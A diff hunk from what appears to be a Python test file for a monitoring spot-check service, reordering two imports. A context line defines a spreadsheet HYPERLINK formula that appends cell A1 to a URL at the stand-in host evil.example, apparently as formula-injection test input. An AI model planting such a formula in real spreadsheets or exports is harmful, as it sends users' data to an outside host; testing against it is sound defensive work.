@@ -10,8 +10,8 @@ import pytest
 from sqlalchemy import update
 
 from services.monitoring.spot_checks.models import SpotCheck
-from tests.support.monitoring import assigned_petition, deliver, received, routed
 from tests.support.apps import auth_headers
+from tests.support.monitoring import assigned_petition, deliver, received, routed
 
 UTC = timezone.utc
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
